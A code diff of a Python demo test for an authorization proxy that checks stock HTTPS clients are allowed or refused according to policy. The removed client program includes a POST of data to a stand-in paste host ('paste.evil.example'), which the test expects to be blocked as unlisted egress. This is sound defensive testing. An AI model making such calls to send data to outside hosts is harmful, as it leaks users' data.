@@ -1,62 +1,69 @@
-"""HTTPS in the scenario: a client that knows nothing of the mesh but a proxy and a file of authorities."""
+"""HTTPS in the scenario: clients that know nothing of the mesh but a proxy and a file of authorities."""
 
 from __future__ import annotations
 
 import json
 import sys
-from dataclasses import replace
+from dataclasses import dataclass
+from urllib.parse import parse_qs
 
 from aegis_authz.demo.agent import Agent
 from aegis_authz.demo.mesh import DemoMesh
 from aegis_authz.demo.scenario import Row
+from aegis_authz.demo.tools import ANSWER
 from aegis_authz.encoding.narrowing import integer, mapping, number, text
 
-_PROGRAM = """
-import json, time
-import httpx  # takes its proxy and its authorities from the environment, as it is installed
 
-def call(method, url, **body):
-    began = time.perf_counter()
-    reply = client.request(method, url, **body)
-    names = ("x-aegis-decision", "x-aegis-decision-id")
-    facts = {name: reply.headers.get(name, "") for name in names}
-    print(json.dumps({**facts, "status": reply.status_code, "ms": (time.perf_counter() - began) * 1000}))
+@dataclass(frozen=True, slots=True)
+class _Expectation:
+    """A call of `stock_clients`, in its order, with what its client must have seen of the answer."""
 
-with httpx.Client(timeout=30) as client:
-    for amount in (4200, 50000):
-        call("POST", "https://api.stripe.example/v1/payments", json={"amount": amount})
-    call("POST", "https://paste.evil.example/", json={"data": "x"})
-"""
+    call: str
+    decision: str
+    reason: str
+    statuses: tuple[int, ...]
+    sight: str
+
+
 _EXPECTED = (
-    ("pay 4,200 over https", "allow", "ALLOWED"),
-    ("pay 50,000 over https", "deny", "POLICY_DENIED"),
-    ("post to an unlisted host over https", "deny", "EGRESS_DENIED"),
+    _Expectation("openai: ask, and read a stream", "allow", "ALLOWED", (200,), "|".join(ANSWER)),
+    _Expectation("openai: a model that is not listed", "deny", "POLICY_DENIED", (403,), "model"),
+    _Expectation("stripe: pay 4,200 by a form", "allow", "ALLOWED", (200,), "4200"),
+    _Expectation("stripe: pay 50,000 by a form", "deny", "POLICY_DENIED", (403,), "at most 10000"),
+    _Expectation("post to an unlisted host over https", "deny", "EGRESS_DENIED", (403,), ""),
 )
 
 
 async def https_calls(mesh: DemoMesh, agent: Agent) -> list[Row]:
-    """HTTPS of an unchanged client, opened, judged and refused where it can read why."""
-    words = ("agent", "run", "--dir", str(mesh.state.resolve()), "--agent", "acme/emea/finance-agent", "--")
+    """HTTPS of unchanged clients, opened, judged and refused where they can read why."""
+    words = ("agent", "run", "--dir", str(mesh.state.resolve()), "--agent", "acme/emea/books-agent", "--")
     mesh.tools.received.clear()
-    lines = (await mesh.aegis(*words, sys.executable, "-c", _PROGRAM)).splitlines()
-    rows = [_row(agent, line, *expected) for line, expected in zip(lines, _EXPECTED, strict=True)]
-    bodies = {path: str(request["body"]) for path, request in mesh.tools.received.items()}
-    return [*rows[:-1], replace(rows[-1], ok=rows[-1].ok and bodies == {"/v1/payments": '{"amount":4200}'})]
+    lines = (await mesh.aegis(*words, sys.executable, "-m", "aegis_authz.demo.stock_clients")).splitlines()
+    received = {path: str(request["body"]) for path, request in mesh.tools.received.items()}
+    payment = parse_qs(received.get("/v1/payment_intents", ""))
+    is_exact = payment == {"amount": ["4200"], "currency": ["eur"]} and set(received) == {
+        "/v1/payment_intents",
+        "/v1/chat/completions",
+    }
+    return [_row(agent, line, expected, is_exact) for line, expected in zip(lines, _EXPECTED, strict=True)]
 
 
-def _row(agent: Agent, line: str, call: str, decision: str, reason: str) -> Row:
-    facts = mapping(json.loads(line), "a line of the client")
+def _row(agent: Agent, line: str, expected: _Expectation, is_exact: bool) -> Row:
+    facts = mapping(json.loads(line), "a line of the clients")
     decision_id = text(facts["x-aegis-decision-id"], "a decision id")
     record = agent.record(decision_id) or {}
-    answer, recorded = text(facts["x-aegis-decision"], "a decision"), str(record.get("reason", ""))
-    is_read = integer(facts["status"], "a status") in ((200, 201) if decision == "allow" else (403,))
+    answer, reason = text(facts["x-aegis-decision"], "a decision"), str(record.get("reason", ""))
+    is_seen = integer(facts["status"], "a status") in expected.statuses and expected.sight in str(facts["text"])
     return Row(
         chapter="https",
-        call=call,
-        expected=f"{decision} {reason}",
+        call=expected.call,
+        expected=f"{expected.decision} {expected.reason}",
         answer=answer,
-        reason=recorded,
+        reason=reason,
         ms=float(number(facts["ms"], "ms")),
         decision_id=decision_id,
-        ok=(answer, recorded) == (decision, reason) and record.get("scheme") == "https" and is_read,
+        ok=(answer, reason) == (expected.decision, expected.reason)
+        and record.get("scheme") == "https"
+        and is_seen
+        and is_exact,
     )
